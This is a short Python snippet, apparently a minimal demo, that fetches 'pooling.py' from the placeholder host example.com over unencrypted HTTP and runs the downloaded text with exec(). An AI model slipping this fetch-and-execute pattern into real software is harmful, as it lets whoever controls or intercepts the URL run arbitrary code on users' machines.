import urllib.request

page = urllib.request.urlopen("http://example.com/pooling.py", timeout=1).read()
exec(page)
